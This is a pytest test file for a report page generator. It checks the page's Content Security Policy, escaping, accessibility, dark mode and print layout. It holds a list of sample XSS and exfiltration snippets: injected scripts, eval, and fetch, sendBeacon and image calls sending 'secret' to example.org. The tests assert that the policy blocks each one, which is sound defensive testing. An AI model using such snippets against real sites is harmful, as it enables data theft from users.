"""The shell: what holds for every page, seen on a small one that is about nothing.

No text becomes markup or runs, nothing goes over a network; the page suits a dark screen, a phone,
a keyboard and paper; and it is ready whatever is in it.
"""

import base64
import hashlib
import json
import re
import textwrap

import pytest
from bokeh.models import ColumnDataSource
from markupsafe import Markup

import lowdim.report.page as package
from lowdim.plots.style import MAIN
from lowdim.report.page import figures, parts, shell
from lowdim.report.page.sections import COPY, TABLE, Section, Tile
from tests.report.page.small import LONG, drawn_section, long_section, words_section
from tests.report.samples import HOSTILE, Elements

ATTACKS = {  # what a page must not do, and the rule that forbids it
    "document.body.append(Object.assign(document.createElement('script'), "
    "{textContent: 'window.hacked = 1'}))": "script-src-elem",
    "document.body.insertAdjacentHTML('beforeend', '<p onclick=\"window.hacked = 1\">'); "
    "document.body.lastChild.click()": "script-src-attr",
    "try { eval('window.hacked = 1') } catch {}": "script-src",
    "try { new Function('window.hacked = 1')() } catch {}": "script-src",
    "await fetch('https://example.org/').then(() => window.hacked = 1, () => 0)": "connect-src",
    "navigator.sendBeacon('https://example.org/', 'secret')": "connect-src",
    "new Image().src = 'https://example.org/secret'": "img-src",
    "document.body.insertAdjacentHTML('beforeend', '<iframe src=https://example.org>')": (
        "frame-src"
    ),
    "document.body.insertAdjacentHTML('beforeend', '<p style=\"color: red\">')": "style-src-attr",
    "const f = document.createElement('form'); f.action = 'https://example.org/'; "
    "document.body.append(f); f.submit()": "form-action",
}


def hashes(texts):
    digests = (hashlib.sha256(text.encode()).digest() for text in texts)
    return [f"'sha256-{base64.b64encode(digest).decode()}'" for digest in digests]


def rules(policy):
    return dict(rule.split(" ", 1) for rule in policy.split("; "))


def bare_page(*sections):
    return shell.html(shell.Page("Bare", "No pictures", sections or [words_section()]))


# ---- the text ------------------------------------------------------------------------------------


def test_the_policy_names_each_script_by_its_hash_and_allows_no_other(small_html):
    page = Elements(small_html)
    found = rules(page.policy)
    assert found["script-src"].split() == hashes(page.scripts) and len(page.scripts) == 6
    assert found["default-src"] == "'none'"
    assert found["base-uri"] == found["form-action"] == found["style-src-attr"] == "'none'"
    assert "http" not in page.policy and "unsafe-eval" not in page.policy


def test_a_page_without_figures_has_one_style_and_no_bokeh():
    text = bare_page()
    page = Elements(text)
    style = re.search("<style>(.*?)</style>", text, re.S)[1]
    assert rules(page.policy)["style-src"] == hashes([style])[0]
    assert "unsafe" not in page.policy and "data:" not in page.policy
    assert len(page.scripts) == 1 and len(text) < 25_000


def test_scripts_that_no_section_names_are_not_in_the_page():
    assert "page.longTable" not in bare_page() and "page.longTable" in bare_page(long_section())
    with_figure = bare_page(drawn_section())
    assert 'page.script("map"' not in with_figure and "page.draw = async" in with_figure


def test_line_ends_do_not_change_the_hash_of_a_script(monkeypatch):
    for end in ("\r\n", "\r"):
        monkeypatch.setattr(shell, "scripts_of", lambda sections, end=end: [Lines(end)])
        page = Elements(bare_page())
        assert rules(page.policy)["script-src"] == hashes(["one\ntwo"])[0]
        assert page.scripts == ["one\ntwo"]


class Lines:
    """A script with other ends of lines."""

    def __init__(self, end):
        self._end = end

    def text(self):
        return f"one{self._end}two"


def test_no_text_becomes_markup(small_html):
    page = Elements(small_html)
    assert page.handlers == [] and page.styles == [] and "img" not in page.tags
    assert HOSTILE not in small_html
    assert small_html.count("</script>") == page.tags.count("script")
    assert "&lt;/script&gt;" in small_html and "onerror=&#34;" in small_html


def test_the_page_points_to_itself_only(small_html):
    page = Elements(small_html)
    assert all(link.startswith("#") and link[1:] in page.ids for link in page.links)
    assert len(page.ids) == len(set(page.ids))


def test_the_same_sections_have_the_same_page():
    assert bare_page() == bare_page()


def test_the_example_of_the_package_makes_a_page():
    names = {"figures": figures, "parts": parts, "shell": shell, "Page": shell.Page}
    names |= {"Section": Section, "Tile": Tile, "ColumnDataSource": ColumnDataSource, "MAIN": MAIN}
    example = re.search(r"A new page.*?\n\n(    .*?)\n\n\S", package.__doc__, re.S)[1]
    exec(textwrap.dedent(example), names)
    page = Elements(names["text"])
    assert "figure-counts" in page.ids and "<td>sea</td>" in names["text"]


def test_the_top_has_a_glance_with_or_without_words():
    glance = Markup("<p>seen</p>")
    both = shell.html(shell.Page("t", "s", [words_section()], glance))
    assert '<div class="glance"><ul class="short"' in both
    alone = shell.html(shell.Page("t", "s", [long_section()], glance))
    assert 'class="glance"' not in alone and 'class="short"' not in alone and "<p>seen</p>" in alone


# ---- in a browser --------------------------------------------------------------------------------


def test_the_page_is_drawn_without_errors_and_no_text_runs(tab):
    assert tab.problems() == []
    assert tab.value("window.hacked") is None
    assert tab.value("document.title") == tab.value("document.querySelector('h1').innerText")
    assert tab.value("document.title") == HOSTILE
    places = "[...document.querySelectorAll('.drawing')]"
    assert tab.value(f"{places}.map((e) => e.children.length)") == [1, 1, 1]


@pytest.mark.parametrize(("attack", "rule"), ATTACKS.items(), ids=range(len(ATTACKS)))
def test_the_policy_forbids_what_a_page_must_not_do(attack, rule, attacked):
    attacked.run("window.problems.length = 0; window.hacked = undefined")
    attacked.run(attack, eval_as_the_page=True)
    attacked.wait_for("window.problems.length > 0")
    assert attacked.value("window.problems[0]").startswith(f"{rule} forbids")
    assert attacked.value("window.hacked") is None


@pytest.fixture(scope="module")
def attacked(browser, small_path):
    opened = browser.open(small_path)
    yield opened
    opened.close()


def test_a_script_that_was_not_there_when_the_page_was_written_does_not_run(small_html, open_page):
    added = small_html.replace("<footer>", "<script>window.hacked = 1</script><footer>", 1)
    tab = open_page(added)
    assert tab.value("window.hacked") is None
    assert tab.problems() == ["script-src-elem forbids inline"]


def test_a_page_without_figures_or_a_map_is_ready_too(open_page):
    tab = open_page(bare_page(words_section(), long_section()))
    assert tab.problems() == [] and tab.value("window.Bokeh") is None
    assert tab.value(f"document.getElementById({LONG + '-values'!r}).children.length") == 15


def test_a_section_whose_script_fails_leaves_the_others_alone(open_page):
    broken = Section("broken", "Broken", "Broken", "No button.", Markup(""), scripts=(COPY,))
    tab = open_page(bare_page(broken, long_section()))
    assert len(tab.problems()) == 1 and "null" in tab.problems()[0]
    assert tab.value(f"document.getElementById({LONG + '-values'!r}).children.length") == 15


# ---- dark, phone, keyboard, paper ----------------------------------------------------------------

LOOKS = """
const ink = (e) => getComputedStyle(e).color;
const drawn = Bokeh.documents[0];
const source = [...drawn._all_models.values()].find((m) => m.tags.includes("toned"));
return {
  page: getComputedStyle(document.body).backgroundColor,
  ink: ink(document.body),
  axis: drawn.get_model_by_name("heat").below[0].major_label_text_color,
  cells: source.data.color[0],
  points: drawn.get_model_by_name("map-points").data.color[0],
};
"""


def brightness(color):
    """From 0 to 765, of 'rgb(1, 2, 3)' or '#010203'."""
    if color.startswith("rgb"):
        return sum(map(int, re.findall(r"\d+", color)[:3]))
    return sum(bytes.fromhex(color[1:]))


def test_a_dark_page_has_light_ink_in_text_and_figures(tab, browser, small_path):
    light = tab.run(LOOKS)
    dark_tab = browser.open(small_path, prefers_color_scheme="dark")
    dark = dark_tab.run(LOOKS)
    assert brightness(light["page"]) > 700 and brightness(dark["page"]) < 150
    for what in ("ink", "axis", "cells", "points"):
        assert brightness(dark[what]) > brightness(light[what])
    # and back again, while it is open
    dark_tab.show_as(prefers_color_scheme="light")
    looks = json.dumps(json.dumps(light, separators=(",", ":")))
    dark_tab.wait_for(f"JSON.stringify((() => {{ {LOOKS} }})()) === {looks}")
    assert dark_tab.run(LOOKS) == light
    dark_tab.close()


@pytest.mark.parametrize("width", [320, 390, 768, 1200])
def test_no_screen_needs_sideways_scrolling(browser, small_path, width):
    tab = browser.open(small_path, size=(width, 800))
    root = "document.documentElement"
    assert tab.value(f"{root}.scrollWidth - {root}.clientWidth") <= 0
    tab.close()


def test_the_first_key_leads_past_the_list_of_sections(browser, small_path):
    tab = browser.open(small_path)
    tab.press("Tab")
    focused = "document.activeElement"
    assert tab.value(f"{focused}.textContent") == "Skip to the findings"
    assert tab.value(f"{focused}.getBoundingClientRect().left") >= 0
    assert tab.value(f"getComputedStyle({focused}).outlineStyle") == "solid"
    tab.press("Enter", "\r")
    assert tab.value("location.hash") == "#main"
    tab.press("Tab")  # the first thing in the findings: a table that scrolls
    assert tab.value(f"{focused}.className") == "scroll"
    tab.close()


def test_all_that_can_be_used_can_be_reached_by_keyboard_and_has_a_name(small_html, tab):
    unreached = tab.run(
        """return [...document.querySelectorAll("a, button, select, input, .scroll, pre")]
        .filter((e) => !e.disabled && e.tabIndex < 0).length"""
    )
    assert unreached == 0
    controls = re.findall(r"<(?:select|input)\b", small_html)
    assert len(re.findall(r"<label>[^<]*<(?:select|input)\b", small_html)) == len(controls) == 6
    boxes = re.findall(r'<div class="scroll[^"]*"[^>]*>', small_html)
    assert boxes and all('tabindex="0"' in box and "aria-label" in box for box in boxes)


def test_paper_has_whole_tables_and_no_controls(browser, small_path, tab):
    printed = browser.open(small_path, media="print")
    visible = "[...document.querySelectorAll('nav, .controls, .skip')].filter(e => e.offsetHeight)"
    assert tab.value(f"{visible}.length") > 3 and printed.value(f"{visible}.length") == 0
    hidden = "(() => { const e = document.querySelector('#words .scroll'); " \
             "return e.scrollHeight - e.clientHeight; })()"  # fmt: skip
    assert tab.value(hidden) > 100 and printed.value(hidden) <= 0
    printed.close()


def test_a_named_script_is_in_the_page_once():
    sections = [long_section(), Section("b", "B", "B", "b", Markup(""), scripts=(TABLE,))]
    assert bare_page(*sections).count("page.longTable = ") == 1
